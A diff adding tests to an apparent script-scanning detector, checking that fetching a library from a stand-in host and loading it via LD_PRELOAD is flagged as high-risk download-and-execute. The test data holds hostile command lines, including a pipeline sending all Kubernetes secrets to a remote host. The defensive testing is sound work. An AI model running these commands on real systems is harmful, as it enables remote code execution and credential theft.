@@ -107,6 +107,29 @@ it('tells what is put in front of every program of a machine', async () => {
   expect(await decision('a.sh', 'test -s /etc/ld.so.preload && cat /etc/ld.so.preload\n')).toBe('pass');
 });
 
+describe('a library that every program loads first', () => {
+  const GET = 'curl -o /tmp/x.so https://c.example.invalid/x.so\n';
+
+  it.each([
+    ['a.sh', `${GET}export LD_PRELOAD=/tmp/x.so\n`],
+    ['a.sh', `${GET}LD_PRELOAD=/tmp/x.so python train.py\n`],
+    ['a.sh', `${GET}LD_PRELOAD=/tmp/x.so\nexport LD_PRELOAD\n`],
+    [
+      'a.py',
+      'import os, urllib.request as u\nu.urlretrieve("https://c.example.invalid/x", "/tmp/x.so")\nos.environ["LD_PRELOAD"] = "/tmp/x.so"\n',
+    ],
+  ])('blocks in %s when it was fetched: %s', async (path, text) => {
+    expect(await verdicts(path, text)).toContain('CODE-DOWNLOAD-EXECUTE HIGH');
+  });
+
+  it.each([
+    ['export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\n'],
+    [`${GET}LD_PRELOAD=/opt/lib/libjemalloc.so python train.py\n`],
+  ])('passes when the machine has it: %s', async (text) => {
+    expect(await decision('a.sh', text)).toBe('pass');
+  });
+});
+
 it('holds secrets of a cluster that are sent elsewhere', async () => {
   const line = (host: string): string =>
     `kubectl get secrets -A -o yaml | curl --data-binary @- https://${host}/\n`;
